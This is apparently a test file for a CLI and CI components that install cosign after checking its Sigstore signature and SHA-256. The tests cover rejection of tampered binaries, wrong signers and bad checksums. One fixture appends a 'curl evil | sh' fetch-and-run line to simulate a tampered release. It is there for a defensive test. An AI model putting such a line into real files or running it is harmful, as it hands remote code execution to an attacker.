// install-cosign through the bundled CLI and the install action as the
// runner runs it: a loopback release host serves "cosign" releases laid out
// like cosign's (binary, <asset>.sigstore.json, cosign_checksums.txt), the
// binary a small script signed keyless on the loopback Sigstore stack. What
// gets installed is checked by @sigstore/verify and its SHA-256 by node's
// crypto, independently of our code; a tampered binary, another signer, a
// checksum that disagrees and an unsupported version are refused with their
// codes and leave nothing behind; a second run downloads nothing.
import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import {
  existsSync,
  mkdtempSync,
  rmSync,
  readFileSync,
  statSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { stringify } from 'yaml'
import { join } from 'node:path'
import { execNode } from '../support/exec.ts'
import {
  GITLAB_ENTRY_COMMAND,
  jobLog,
  makeComponentRepo,
  parseDotenv,
  readArtifact,
  requireBuiltEntry,
  runGitlabCiLocal
} from '../support/gitlab-ci-local.ts'
import { verifyWithSigstoreJs } from '../support/oracle.ts'
import { startReleaseHost, type ReleaseHost } from '../support/release-host.ts'
import { runAction } from '../support/run-action.ts'
import {
  GITHUB_ISSUER,
  GITHUB_SAN,
  startWorld,
  type World
} from '../support/world.ts'
import {
  COSIGN_CHECKSUMS_FILE,
  cosignAssetName
} from '../../src/cosign/index.ts'

const root = join(import.meta.dirname, '../..')
const CLI = join(root, 'dist/cli/index.js')
const ASSET = cosignAssetName(process.platform, process.arch)
let w: World
let host: ReleaseHost

const sha256 = (b: Uint8Array): string =>
  createHash('sha256').update(b).digest('hex')

interface Release {
  binary: Buffer
  bundle: string
}

/** A "cosign" binary for `tag`, signed keyless (SAN GITHUB_SAN) on the
 * loopback stack with sigil sign-blob. */
async function signedRelease(tag: string): Promise<Release> {
  const file = join(w.tmp, `${tag}-${ASSET}`)
  const binary = Buffer.from(`#!/bin/sh\necho "cosign ${tag} (test build)"\n`)
  writeFileSync(file, binary)
  const r = await execNode(
    CLI,
    [
      'sign-blob',
      '--fulcio-url',
      w.stack.fulcioUrl,
      '--rekor-url',
      w.stack.rekorUrl,
      '--trusted-root',
      w.stack.trustedRootPath,
      file
    ],
    {
      env: { PATH: process.env.PATH, HOME: w.tmp, SIGSTORE_ID_TOKEN: w.token }
    }
  )
  assert.equal(r.code, 0, r.stderr)
  return { binary, bundle: readFileSync(`${file}.sigstore.json`, 'utf8') }
}

function checksums(entries: Record<string, string>): string {
  return Object.entries(entries)
    .map(([name, hex]) => `${hex}  ${name}\n`)
    .join('')
}

let good: Release

before(async () => {
  ;[w, host] = await Promise.all([startWorld(), startReleaseHost()])
  good = await signedRelease('v3.0.6')
  host.publish('v3.0.6', {
    [ASSET]: good.binary,
    [`${ASSET}.sigstore.json`]: good.bundle,
    [COSIGN_CHECKSUMS_FILE]: checksums({
      'cosign-other-arch': 'a'.repeat(64),
      [ASSET]: sha256(good.binary)
    })
  })
  // Changed after signing; the attacker updated the checksums to match.
  const t = await signedRelease('v3.0.7')
  const tampered = Buffer.concat([t.binary, Buffer.from('curl evil | sh\n')])
  host.publish('v3.0.7', {
    [ASSET]: tampered,
    [`${ASSET}.sigstore.json`]: t.bundle,
    [COSIGN_CHECKSUMS_FILE]: checksums({ [ASSET]: sha256(tampered) })
  })
  // Genuine binary and bundle, a checksums file that disagrees.
  const c = await signedRelease('v3.0.8')
  host.publish('v3.0.8', {
    [ASSET]: c.binary,
    [`${ASSET}.sigstore.json`]: c.bundle,
    [COSIGN_CHECKSUMS_FILE]: checksums({ [ASSET]: 'b'.repeat(64) })
  })
})
after(async () => {
  await Promise.all([w?.stop(), host?.stop()])
})

const env = (): NodeJS.ProcessEnv => ({
  PATH: process.env.PATH,
  HOME: w.tmp,
  SIGIL_TUF_OFFLINE: '1'
})
/** The loopback stack's signer instead of cosign's (the test option). */
const loopbackSigner = (): string[] => [
  '--certificate-identity',
  GITHUB_SAN,
  '--certificate-oidc-issuer',
  GITHUB_ISSUER
]
const install = (tag: string, dir: string, extra: string[]): string[] => [
  'install-cosign',
  '--cosign-release',
  tag,
  '--release-base-url',
  host.baseUrl,
  '--install-dir',
  dir,
  '--trusted-root',
  w.stack.trustedRootPath,
  ...extra
]
const freshDir = (): string => mkdtempSync(join(tmpdir(), 'sigil-cosign-'))

describe('sigil install-cosign', () => {
  test('downloads, verifies and installs; @sigstore/verify and the SHA-256 agree; a second run downloads nothing', async () => {
    const dir = freshDir()
    const before = host.requests.length
    const r = await execNode(
      CLI,
      install('v3.0.6', dir, [...loopbackSigner(), '--output', 'json']),
      { env: env() }
    )
    assert.equal(r.code, 0, r.stderr)
    const out = JSON.parse(r.stdout) as {
      path: string
      version: string
      sha256: string
      cached: boolean
    }
    assert.equal(out.path, join(dir, 'cosign'))
    assert.equal(out.version, 'v3.0.6')
    assert.equal(out.cached, false)
    const installed = readFileSync(out.path)
    assert.deepEqual(installed, good.binary)
    assert.equal(out.sha256, sha256(installed))
    assert.equal(statSync(out.path).mode & 0o111, 0o111, 'executable')
    const oracle = verifyWithSigstoreJs({
      trustedRoot: w.stack.trustedRoot,
      bundle: JSON.parse(good.bundle) as unknown,
      artifact: installed,
      san: GITHUB_SAN,
      issuer: GITHUB_ISSUER
    })
    assert.equal(oracle.san, GITHUB_SAN)
    assert.deepEqual(host.requests.slice(before).sort(), [
      `/releases/download/v3.0.6/${ASSET}`,
      `/releases/download/v3.0.6/${ASSET}.sigstore.json`,
      `/releases/download/v3.0.6/${COSIGN_CHECKSUMS_FILE}`
    ])
    assert.match(r.stderr, /Verified cosign v3\.0\.6: signed by/)

    const again = await execNode(CLI, install('3.0.6', dir, loopbackSigner()), {
      env: env()
    })
    assert.equal(again.code, 0, again.stderr)
    assert.equal(again.stdout, `${out.path}\n`)
    assert.match(again.stderr, /already installed/)
    assert.equal(host.requests.length, before + 3, 'no download the 2nd time')

    // A binary changed in place since it was verified is not "installed".
    writeFileSync(out.path, 'changed')
    const third = await execNode(
      CLI,
      install('v3.0.6', dir, loopbackSigner()),
      { env: env() }
    )
    assert.equal(third.code, 0, third.stderr)
    assert.deepEqual(readFileSync(out.path), good.binary)
    assert.equal(host.requests.length, before + 6)
  })

  test('a binary changed after signing is refused (INSTALL_COSIGN_SIGNATURE_INVALID), nothing written', async () => {
    const dir = freshDir()
    const r = await execNode(CLI, install('v3.0.7', dir, loopbackSigner()), {
      env: env()
    })
    assert.equal(r.code, 12, r.stderr)
    assert.match(r.stderr, /\[INSTALL_COSIGN_SIGNATURE_INVALID\]/)
    assert.match(r.stderr, /nothing was installed/)
    assert.equal(r.stdout, '')
    assert.equal(existsSync(join(dir, 'cosign')), false)
  })

  test("another signer than cosign's release identity is refused (INSTALL_COSIGN_SIGNER_MISMATCH)", async () => {
    const dir = freshDir()
    // No identity given: cosign's own (keyless@projectsigstore…, Google).
    const r = await execNode(CLI, install('v3.0.6', dir, []), { env: env() })
    assert.equal(r.code, 12, r.stderr)
    assert.match(r.stderr, /\[INSTALL_COSIGN_SIGNER_MISMATCH\]/)
    assert.match(r.stderr, /keyless@projectsigstore\.iam\.gserviceaccount\.com/)
    assert.equal(existsSync(join(dir, 'cosign')), false)
    // An explicit identity that is not the signer's.
    const other = await execNode(
      CLI,
      install('v3.0.6', dir, [
        '--certificate-identity',
        'https://github.com/someone/else/.github/workflows/release.yml@refs/heads/main',
        '--certificate-oidc-issuer',
        GITHUB_ISSUER
      ]),
      { env: env() }
    )
    assert.equal(other.code, 12, other.stderr)
    assert.match(other.stderr, /\[INSTALL_COSIGN_SIGNER_MISMATCH\]/)
  })

  test('a checksum that disagrees is refused (INSTALL_COSIGN_CHECKSUM_MISMATCH)', async () => {
    const dir = freshDir()
    const r = await execNode(CLI, install('v3.0.8', dir, loopbackSigner()), {
      env: env()
    })
    assert.equal(r.code, 12, r.stderr)
    assert.match(r.stderr, /\[INSTALL_COSIGN_CHECKSUM_MISMATCH\]/)
    assert.match(r.stderr, new RegExp(`says ${'b'.repeat(64)}`))
    assert.equal(existsSync(join(dir, 'cosign')), false)
  })

  test('v2 releases (no bundle) are refused before any request; a missing release is a download error', async () => {
    const before = host.requests.length
    const old = await execNode(
      CLI,
      install('v2.6.1', freshDir(), loopbackSigner()),
      { env: env() }
    )
    assert.equal(old.code, 2, old.stderr)
    assert.match(old.stderr, /\[INPUT_COSIGN_VERSION\]/)
    assert.match(old.stderr, /v3\.0\.1 or later/)
    assert.equal(host.requests.length, before)
    const missing = await execNode(
      CLI,
      install('v3.9.9', freshDir(), loopbackSigner()),
      { env: env() }
    )
    assert.equal(missing.code, 1, missing.stderr)
    assert.match(missing.stderr, /\[INSTALL_COSIGN_DOWNLOAD_FAILED\]/)
    assert.match(missing.stderr, /HTTP 404/)
  })
})

describe('install action (install/action.yml)', () => {
  const run = (
    tag: string,
    toolCache: string,
    signer = true
  ): ReturnType<typeof runAction> =>
    runAction(join(root, 'install'), {
      inputs: {
        'cosign-release': tag,
        'release-base-url': host.baseUrl,
        'trusted-root': w.stack.trustedRootPath,
        ...(signer
          ? {
              'certificate-identity': GITHUB_SAN,
              'certificate-oidc-issuer': GITHUB_ISSUER
            }
          : {})
      },
      env: { RUNNER_TOOL_CACHE: toolCache }
    })

  test('installs into the tool cache and onto PATH; the second run is a cache hit with no download', async () => {
    const toolCache = freshDir()
    const before = host.requests.length
    const r = await run('v3.0.6', toolCache)
    assert.equal(r.exitCode, 0, r.stdout + r.stderr)
    assert.deepEqual(r.unexpected, [])
    const dir = join(toolCache, 'cosign', '3.0.6', process.arch)
    assert.equal(r.outputs.path, join(dir, 'cosign'))
    assert.equal(r.outputs.version, 'v3.0.6')
    assert.equal(r.outputs['cache-hit'], 'false')
    assert.equal(r.outputs.sha256, sha256(good.binary))
    assert.deepEqual(r.paths, [dir])
    assert.deepEqual(readFileSync(join(dir, 'cosign')), good.binary)
    assert.equal(statSync(join(dir, 'cosign')).mode & 0o111, 0o111)
    assert.ok(existsSync(`${dir}.complete`), 'tool-cache completion marker')
    assert.equal(host.requests.length, before + 3)

    const hit = await run('v3.0.6', toolCache)
    assert.equal(hit.exitCode, 0, hit.stdout + hit.stderr)
    assert.equal(hit.outputs['cache-hit'], 'true')
    assert.equal(hit.outputs.path, join(dir, 'cosign'))
    assert.deepEqual(hit.paths, [dir])
    assert.equal(host.requests.length, before + 3, 'no download on a hit')
  })

  test('a tampered binary or another signer fails the step with its code; nothing cached, nothing on PATH', async () => {
    const toolCache = freshDir()
    const tampered = await run('v3.0.7', toolCache)
    assert.equal(tampered.exitCode, 1)
    const err = tampered.commands.find(c => c.command === 'error')
    assert.match(err?.message ?? '', /^\[INSTALL_COSIGN_SIGNATURE_INVALID\]/)
    assert.equal(tampered.outputs.path, undefined)
    assert.deepEqual(tampered.paths, [])
    assert.equal(existsSync(join(toolCache, 'cosign')), false)

    const stranger = await run('v3.0.6', toolCache, false)
    assert.equal(stranger.exitCode, 1)
    assert.match(
      stranger.commands.find(c => c.command === 'error')?.message ?? '',
      /^\[INSTALL_COSIGN_SIGNER_MISMATCH\]/
    )
    assert.deepEqual(stranger.paths, [])
  })
})

describe('GitLab component (templates/install-cosign.yml) through gitlab-ci-local', () => {
  test('installs for later jobs: dotenv report, the binary as artifact, a job that needs it runs it from PATH', async () => {
    requireBuiltEntry()
    const ci = stringify({
      include: [
        {
          component:
            '$CI_SERVER_FQDN/$CI_PROJECT_PATH/install-cosign@$CI_COMMIT_SHA',
          inputs: {
            image: 'node:24',
            command: GITLAB_ENTRY_COMMAND,
            'cosign-release': 'v3.0.6',
            'release-base-url': host.baseUrl,
            'trusted-root': w.stack.trustedRootPath,
            'certificate-identity': GITHUB_SAN,
            'certificate-oidc-issuer': GITHUB_ISSUER
          }
        }
      ],
      stages: ['build', 'test'],
      'use-cosign': {
        stage: 'test',
        needs: ['sigil-install-cosign'],
        script: [
          // gitlab-ci-local's CI_PROJECT_DIR is a virtual /builds path; the
          // job runs in the project directory, as on GitLab.
          'export PATH="$PWD/$SIGIL_COSIGN_DIR:$PATH"',
          'echo "installed=$SIGIL_COSIGN_VERSION sha=$SIGIL_COSIGN_SHA256"',
          'cosign'
        ]
      }
    })
    const repo = makeComponentRepo(ci)
    try {
      const r = await runGitlabCiLocal(repo, ['--shell-isolation'])
      assert.equal(r.exitCode, 0, r.output)
      const log = jobLog(r, 'sigil-install-cosign')
      assert.match(log, /Verified cosign v3\.0\.6: signed by/)
      const env = parseDotenv(
        readArtifact(repo, 'sigil-install-cosign', 'sigil.env')
      )
      assert.equal(env.SIGIL_COSIGN_VERSION, 'v3.0.6')
      assert.equal(env.SIGIL_COSIGN_DIR, '.sigil/cosign')
      assert.equal(env.SIGIL_COSIGN_SHA256, sha256(good.binary))
      assert.deepEqual(
        Buffer.from(
          readArtifact(repo, 'sigil-install-cosign', '.sigil/cosign/cosign')
        ),
        good.binary
      )
      const use = jobLog(r, 'use-cosign')
      assert.ok(
        use.includes(`installed=v3.0.6 sha=${sha256(good.binary)}`),
        r.output
      )
      assert.ok(use.includes('cosign v3.0.6 (test build)'), r.output)
    } finally {
      rmSync(repo.dir, { recursive: true, force: true })
    }
  })
})
